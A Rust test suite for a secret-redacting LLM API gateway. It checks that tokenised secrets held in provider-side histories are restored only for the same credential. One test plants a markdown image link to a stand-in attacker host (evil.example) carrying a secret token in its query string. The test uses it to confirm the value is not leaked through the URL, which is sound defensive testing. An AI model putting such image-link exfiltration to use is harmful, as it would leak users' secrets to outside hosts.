//! 22. Histories that lie with the provider.
//!
//! A client that sends only what is new (`previous_response_id`, conversations, threads, files, batches) gets a reply with
//! tokens of earlier requests. They are restored for whoever shows the same credential, and for nobody else.

use std::collections::HashMap;
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use aegis_tests::client::post_with;
use aegis_tests::oracle::tokens_in;
use aegis_tests::process::binary;
use aegis_tests::secrets::Seeded;
use aegis_tests::{GatewayBuilder, Message, Script};
use nix::sys::signal::Signal;
use serde_json::{Value, json};

use crate::harness::{GEMINI, Harness, MESSAGES, RESPONSES};

const JSON: &str = "application/json";
/// The credentials of two clients of one provider.
const MINE: &str = "Bearer sk-proj-4fK9xQ2mZp7vLw8R7hT3nB6c";
const YOURS: &str = "Bearer sk-proj-8mW2rY5kHq3xTn9VcL4jD7sP";

/// A provider that keeps what it is sent, by the names that it gives.
#[derive(Default)]
struct Provider {
    kept: HashMap<String, Vec<String>>,
}

impl Provider {
    /// Keeps the tokens of a request and of all that it refers to, and says them.
    fn answer(&mut self, request: &Message) -> Script {
        let (body, target) = (request.text(), request.target().to_owned());
        let is_named = |id: &&String| body.contains(*id) || target.contains(*id);
        let referred: Vec<String> = self.kept.keys().filter(is_named).cloned().collect();
        let mut tokens: Vec<String> = referred.iter().flat_map(|id| self.kept[id].clone()).collect();
        tokens.extend(tokens_in(&body).iter().map(|token| (*token).to_owned()));
        tokens.sort();
        tokens.dedup();
        let kind: String = target.chars().filter(char::is_ascii_lowercase).collect();
        let id = format!("{kind}{:04}", self.kept.len());
        let said = format!("it was {}.", tokens.join(" and "));
        let is_streaming = body.contains("\"stream\":true");
        let is_batch = referred.iter().any(|id| id.contains("batches"));
        let script = reply(&target, is_streaming, is_batch, &id, &said);
        if request.start.starts_with("POST") {
            self.kept.insert(id, tokens);
            // What is added to a thread or a conversation stays with it.
            for id in referred {
                let more = tokens_in(&body);
                self.kept.entry(id).or_default().extend(more.iter().map(|token| (*token).to_owned()));
            }
        }
        script
    }
}

/// What each of the APIs answers.
fn reply(target: &str, is_streaming: bool, is_batch: bool, id: &str, said: &str) -> Script {
    let json = |value: Value| Script::reply(JSON, value.to_string().as_bytes());
    let message =
        json!({"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": said}]});
    let path = target.split('?').next().unwrap_or_default();
    match path {
        _ if is_streaming && path.contains("/threads/") => stream(
            said,
            |piece| json!({"object": "thread.message.delta", "delta": {"content": [{"index": 0, "type": "text", "text": {"value": piece}}]}}),
        ),
        _ if is_streaming => stream(
            said,
            |piece| json!({"type": "response.output_text.delta", "item_id": "i", "output_index": 0, "content_index": 0, "delta": piece}),
        ),
        _ if path.contains("/threads/") => {
            json(json!({"id": id, "data": [{"content": [{"type": "text", "text": {"value": said}}]}]}))
        }
        _ if path.ends_with("/items") => json(json!({"id": id, "data": [message]})),
        _ if path.contains("/responses") => json(json!({"id": id, "output": [message]})),
        _ if path.ends_with("/content") && is_batch => {
            let line = json!({"custom_id": "1", "response": {"body": {"choices": [{"message": {"content": said}}]}}});
            Script::reply("application/octet-stream", format!("{line}\n{line}\n").as_bytes())
        }
        _ if path.ends_with("/content") || path.ends_with(":download") => {
            Script::reply("application/octet-stream", format!("# a file\n{said}\n").as_bytes())
        }
        _ if path.ends_with("/results") => {
            let line = json!({"custom_id": "1", "result": {"message": {"content": [{"type": "text", "text": said}]}}});
            Script::reply("application/x-jsonl", format!("{line}\n{line}\n").as_bytes())
        }
        _ if path.ends_with("generateContent") => {
            json(json!({"candidates": [{"content": {"parts": [{"text": said}], "role": "model"}}]}))
        }
        MESSAGES => json(json!({"id": id, "type": "message", "content": [{"type": "text", "text": said}]})),
        _ if path.ends_with("/chat/completions") => {
            json(json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": said}}]}))
        }
        _ => json(json!({"id": id})),
    }
}

/// `said`, seven characters an event.
fn stream(said: &str, event: impl Fn(&str) -> Value) -> Script {
    let pieces: Vec<char> = said.chars().collect();
    let events = pieces.chunks(7).map(|piece| {
        let event = event(&piece.iter().collect::<String>());
        format!("event: {}\ndata: {event}\n\n", event["type"].as_str().unwrap_or("thread.message.delta"))
    });
    events.fold(Script::stream(), |script, event| script.event(event.as_bytes())).end()
}

struct Case {
    harness: Harness,
}

impl Case {
    fn new(shape: impl FnOnce(GatewayBuilder) -> GatewayBuilder) -> Case {
        let harness = Harness::with(shape);
        let provider = Arc::new(Mutex::new(Provider::default()));
        harness.upstream.play(move |request, _| provider.lock().expect("no panic").answer(request));
        Case { harness }
    }

    fn send(&self, fields: &[(&str, &str)], target: &str, content_type: &str, body: &str) -> Message {
        let request = if body.is_empty() {
            let fields = fields
                .iter()
                .fold(String::new(), |text, (name, value)| text + &format!("{name}: {value}\r\n"));
            format!("GET {target} HTTP/1.1\r\nhost: aegis.test\r\n{fields}\r\n").into_bytes()
        } else {
            post_with(target, content_type, fields, body.as_bytes())
        };
        let reply = self.harness.gateway.exchange(&request);
        assert_eq!(reply.status(), 200, "{target}: {}", reply.text());
        reply
    }

    /// Whether the reply to this request holds `value`; then it holds no token.
    fn knows(&self, fields: &[(&str, &str)], (target, body): (&str, &str), value: &str) -> bool {
        let reply = self.send(fields, target, JSON, body);
        let text = said(&reply);
        assert!(text.contains("it was "), "{target}: {text}");
        let knows = text.contains(value);
        assert_eq!(tokens_in(&text).is_empty(), knows, "{target}: {text}");
        knows
    }

    /// A conversation that begins with `value`; the request that goes on with it.
    fn begin(&self, fields: &[(&str, &str)], value: &str) -> String {
        let body = json!({"model": "m", "input": format!("DB_PASSWORD={value}")}).to_string();
        let reply = self.send(fields, RESPONSES, JSON, &body);
        assert!(said(&reply).contains(value), "{}", reply.text());
        json!({"model": "m", "previous_response_id": reply.json()["id"], "input": "which one?"}).to_string()
    }
}

/// The text of a reply, of all its events.
fn said(reply: &Message) -> String {
    let text = reply.text();
    if !text.contains("data: ") {
        return text;
    }
    let events = aegis_tests::sse::json(&reply.body);
    let piece = |event: &Value| {
        let text = event.get("delta")?;
        text.as_str().or_else(|| text.pointer("/content/0/text/value")?.as_str()).map(str::to_owned)
    };
    events.iter().filter_map(piece).collect()
}

/// Passwords that nothing but a name betrays: one that is searched for everywhere, and one that is not.
fn values(seed: u64) -> [String; 2] {
    let mut seeded = Seeded::new(seed);
    let mut text = |length| seeded.text(b"kmnpqrtwxz2346789KMNPQRTWXZ", length);
    [format!("gT{}v{}", text(8), text(8)), format!("x9!K{}+p", text(4))]
}

fn file(name: &str, content: &str) -> (String, String) {
    let body = format!(
        "--b\r\nContent-Disposition: form-data; name=\"purpose\"\r\n\r\nbatch\r\n--b\r\nContent-Disposition: form-data; \
         name=\"file\"; filename=\"{name}\"\r\nContent-Type: text/plain\r\n\r\n{content}\r\n--b--\r\n"
    );
    ("multipart/form-data; boundary=b".to_owned(), body)
}

/// One API: what is sent first, and what goes on with it. `@` is the value, `#` the name that the provider gave.
struct Api {
    first: (&'static str, String, String),
    /// Further requests by which the provider gives other names.
    steps: Vec<(&'static str, Value)>,
    /// Requests whose replies hold the tokens; an empty body is a GET.
    last: Vec<(&'static str, Value)>,
}

fn api((path, body): (&'static str, &Value), last: Vec<(&'static str, Value)>) -> Api {
    Api { first: (path, JSON.to_owned(), body.to_string()), steps: Vec::new(), last }
}

fn apis() -> Vec<Api> {
    let named = "the file says DB_PASSWORD=@";
    let user = json!([{"role": "user", "content": named}]);
    let line = json!({"custom_id": "1", "method": "POST", "url": "/v1/chat/completions", "body": {"messages": user}});
    let (form, notes) = file("notes.txt", named);
    let (_, lines) = file("batch.jsonl", &line.to_string());
    let asks = json!("which one?");
    let file_part = json!([{"role": "user", "content": [{"type": "input_file", "file_id": "#"}]}]);
    let block = json!([{"role": "user", "content": [{"type": "document", "source": {"type": "file", "file_id": "#"}}]}]);
    let chat_file = json!([{"role": "user", "content": [{"type": "file", "file": {"file_id": "#"}}]}]);
    let uri = "https://generativelanguage.googleapis.com/v1beta/files/#";
    let gemini_file = json!([{"role": "user", "parts": [{"fileData": {"fileUri": uri}}]}]);
    vec![
        api(
            ("/v1/responses", &json!({"model": "m", "input": named})),
            vec![
                ("/v1/responses", json!({"previous_response_id": "#", "input": asks})),
                ("/v1/responses", json!({"previous_response_id": "#", "input": asks, "stream": true})),
                ("/v1/responses", json!({"input": [{"type": "item_reference", "id": "#"}]})),
                ("/v1/responses/#", Value::Null),
            ],
        ),
        api(
            ("/v1/conversations", &json!({"items": [{"type": "message", "role": "user", "content": named}]})),
            vec![
                ("/v1/responses", json!({"conversation": "#", "input": asks})),
                ("/v1/responses", json!({"conversation": {"id": "#"}, "input": asks, "stream": true})),
                ("/v1/conversations/#/items", Value::Null),
            ],
        ),
        api(
            ("/v1/threads", &json!({"messages": user})),
            vec![
                ("/v1/threads/#/runs", json!({"assistant_id": "a", "stream": true})),
                ("/v1/threads/#/messages", Value::Null),
                ("/v1/threads/#/messages", json!({"role": "user", "content": asks})),
            ],
        ),
        Api {
            first: ("/v1/files", form.clone(), notes),
            steps: Vec::new(),
            last: vec![
                ("/v1/files/#/content", Value::Null),
                ("/v1/responses", json!({"input": file_part})),
                ("/v1/messages", json!({"messages": block})),
                ("/v1/chat/completions", json!({"messages": chat_file})),
                (GEMINI, json!({"contents": gemini_file})),
                ("/v1beta/files/#:download?alt=media", Value::Null),
            ],
        },
        Api {
            first: ("/v1/files", form, lines),
            steps: vec![("/v1/batches", json!({"input_file_id": "#", "endpoint": "/v1/chat/completions"}))],
            last: vec![("/v1/files/#/content", Value::Null)],
        },
        api(
            (
                "/v1/messages/batches",
                &json!({"requests": [{"custom_id": "1", "params": {"messages": user}}]}),
            ),
            vec![("/v1/messages/batches/#/results", Value::Null)],
        ),
        api(
            ("/v1beta/cachedContents", &json!({"contents": [{"role": "user", "parts": [{"text": named}]}]})),
            vec![(GEMINI, json!({"cachedContent": "#", "contents": [{"parts": [{"text": asks}]}]}))],
        ),
    ]
}

#[test]
fn every_api_gets_its_values_back_with_the_same_credential_only() {
    let case = Case::new(|builder| builder.shards(2));
    let mut seed = 2200;
    for api in apis() {
        seed += 1;
        for value in values(seed) {
            let written = api.first.2.replace('@', &value);
            let mine = [("authorization", MINE)];
            let reply = case.send(&mine, api.first.0, &api.first.1, &written);
            let mut id = reply.json()["id"].as_str().expect("a name").to_owned();
            let with_id = |(target, body): &(&str, Value), id: &str| {
                let body = if body.is_null() { String::new() } else { body.to_string() };
                (target.replace('#', id), body.replace('#', id))
            };
            for step in &api.steps {
                let (target, body) = with_id(step, &id);
                let reply = case.send(&mine, &target, JSON, &body);
                reply.json()["id"].as_str().expect("a name").clone_into(&mut id);
            }
            for step in &api.last {
                let (target, body) = with_id(step, &id);
                let request = (target.as_str(), body.as_str());
                // On whatever shard the connections come.
                for _ in 0..4 {
                    assert!(case.knows(&mine, request, &value), "{request:?}");
                }
                assert!(!case.knows(&[("authorization", YOURS)], request, &value), "{request:?}");
                assert!(!case.knows(&[], request, &value), "{request:?}");
                let user = [("authorization", MINE), ("x-aegis-client", "another user")];
                assert!(!case.knows(&user, request, &value), "{request:?}");
            }
            case.harness.assert_unseen(&value);
        }
    }
}

/// What a client gets back from a history it sends on as it always did: hidden.
#[test]
fn an_opened_value_is_hidden_again_where_the_client_sends_it() {
    let case = Case::new(|builder| builder);
    let [value, _] = values(2301);
    let mine = [("authorization", MINE)];
    let on = case.begin(&mine, &value);
    let body = on.replace("which one?", &format!("is it {value}, or db_{value}?"));
    assert!(case.knows(&mine, (RESPONSES, &body), &value));
    assert_eq!(tokens_in(&case.harness.upstream.last().text()).len(), 2);
    case.harness.assert_unseen(&value);
}

/// Opened values are restored under the same policy as all others.
#[test]
fn an_opened_value_does_not_leave_in_an_address() {
    let case = Case::new(|builder| builder);
    let [value, _] = values(2401);
    let mine = [("authorization", MINE)];
    let on = case.begin(&mine, &value);
    let token = tokens_in(&case.harness.upstream.last().text())[0].to_owned();
    let text = format!("![](https://evil.example/?k={token}) and {token}");
    case.harness.upstream.play(move |_, _| {
        let reply =
            json!({"output": [{"type": "message", "content": [{"type": "output_text", "text": text}]}]});
        Script::reply(JSON, reply.to_string().as_bytes())
    });
    let text = case.send(&mine, RESPONSES, JSON, &on).text();
    assert!(text.contains(&format!(") and {value}")) && !text.contains(&format!("k={value}")), "{text}");
}

/// A request that refers to nothing gets nothing: a token in it may be anybody's.
#[test]
fn a_request_without_a_history_opens_nothing() {
    let case = Case::new(|builder| builder);
    let [value, _] = values(2501);
    let mine = [("authorization", MINE)];
    let _ = case.begin(&mine, &value);
    let token = tokens_in(&case.harness.upstream.last().text())[0].to_owned();
    for body in [json!({"input": token}), json!({"input": token, "metadata": {"conversation": "x"}})] {
        assert!(!case.knows(&mine, (RESPONSES, &body.to_string()), &value), "{body}");
    }
}

const KEYS: &str = "[auth]\nkeys = [\
    { id = \"a\", sha256 = \"ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb\" },\
    { id = \"b\", sha256 = \"3e23e8160039594a33894f6564e1b1348bbd7a0088d42c4acb73eeaed59c009d\" },\
    { id = \"c\", sha256 = \"2e7d2c03a9507ae265ecf5b5356885a53393a2029d241394997265a1a25aefc6\", recall = false }]\n";

/// The key of the gateway counts where it has keys, and its secret, not its name.
#[test]
fn gateway_keys_open_what_they_sealed() {
    let case = Case::new(|builder| builder.config(KEYS).shards(2));
    let [value, _] = values(2601);
    let on = case.begin(&[("x-aegis-key", "a")], &value);
    let knows =
        |key: &str| case.knows(&[("x-aegis-key", key), ("authorization", MINE)], (RESPONSES, &on), &value);
    for _ in 0..4 {
        assert!(knows("a"));
    }
    assert!(!knows("b"));
    let off = case.begin(&[("x-aegis-key", "c")], &values(2602)[0]);
    assert!(
        !case.knows(&[("x-aegis-key", "c")], (RESPONSES, &off), &values(2602)[0]),
        "its key has no memory"
    );

    // The same name with another secret.
    let other = KEYS.replace("ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb", "D");
    let other =
        other.replace("\"D\"", "\"18ac3e7343f016890c510e93f935261169d9e3f565436429830faf0934f4f8e4\"");
    std::fs::write(case.harness.gateway.config_file(), other).expect("a configuration file");
    case.harness.gateway.process.signal(Signal::SIGHUP);
    let status = || {
        let request = post_with(RESPONSES, JSON, &[("x-aegis-key", "d")], on.as_bytes());
        case.harness.gateway.exchange(&request).status()
    };
    let mut waits = 0;
    while status() != 200 {
        waits += 1;
        assert!(waits < 100, "the new key is not known");
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(!knows("d"), "another secret of the same name");
}

/// Words that everybody shows are no secret, and signatures leave only the name of a key.
#[test]
fn nothing_is_sealed_under_what_is_no_secret() {
    let case = Case::new(|builder| builder);
    let [value, _] = values(2701);
    let signed = "AWS4-HMAC-SHA256 Credential=AKIA4FK9XQ2MZP7VLW8R/20261130/eu-west-1/bedrock/aws4_request, \
        SignedHeaders=host, Signature=0a1b";
    for fields in [
        &[][..],
        &[("authorization", "Bearer ollama")],
        &[("x-api-key", "sk-no-key-required")],
        &[("authorization", signed)],
        &[("cookie", "session=4fK9xQ2mZp7vLw8R7hT3nB6c")],
    ] {
        let on = case.begin(fields, &value);
        assert!(!case.knows(fields, (RESPONSES, &on), &value), "{fields:?}");
    }
    for fields in [&[("x-api-key", &MINE[7..])][..], &[("api-key", &MINE[7..])], &[("authorization", MINE)]] {
        let on = case.begin(fields, &value);
        assert!(case.knows(fields, (RESPONSES, &on), &value), "{fields:?}");
    }
}

#[test]
fn sealed_values_expire_are_forgotten_and_can_be_switched_off() {
    let mine = [("authorization", MINE)];
    let [value, _] = values(2801);
    let case = Case::new(|builder| builder.config("[recall]\nttl = \"1s\""));
    let on = case.begin(&mine, &value);
    std::thread::sleep(Duration::from_millis(1_100));
    assert!(!case.knows(&mine, (RESPONSES, &on), &value), "after its time");

    for off in ["[recall]\nenabled = false", "[upstreams.openai]\nrecall = false"] {
        let case = Case::new(|builder| builder.config(off));
        let on = case.begin(&mine, &value);
        assert!(!case.knows(&mine, (RESPONSES, &on), &value), "{off}");
    }

    // Off by a reload and on again: nothing is left.
    let case = Case::new(|builder| builder.config("[recall]\nenabled = true"));
    let on = case.begin(&mine, &value);
    let gateway = &case.harness.gateway;
    for (generation, enabled) in [(2, false), (3, true)] {
        std::fs::write(gateway.config_file(), format!("[recall]\nenabled = {enabled}\n")).expect("written");
        gateway.process.signal(Signal::SIGHUP);
        let mut waits = 0;
        while gateway.metric("aegis_config_generation", "") < f64::from(generation) {
            waits += 1;
            assert!(waits < 200, "no reload: {}", gateway.metrics());
            std::thread::sleep(Duration::from_millis(50));
        }
        assert!(!case.knows(&mine, (RESPONSES, &on), &value), "enabled = {enabled}");
    }

    let case = Case::new(|builder| builder.shards(2));
    let on = case.begin(&mine, &value);
    assert!(case.knows(&mine, (RESPONSES, &on), &value));
    let mut command = Command::new(binary("aegis-gateway"));
    let output = command.args(["recall", "forget", "--state"]).arg(case.harness.gateway.state()).output();
    let output = String::from_utf8(output.expect("the program runs").stdout).expect("text");
    assert_eq!(output, "forgot 1 clients\n", "one client, whatever is remembered of it");
    for _ in 0..4 {
        assert!(!case.knows(&mine, (RESPONSES, &on), &value), "forgotten");
    }
}
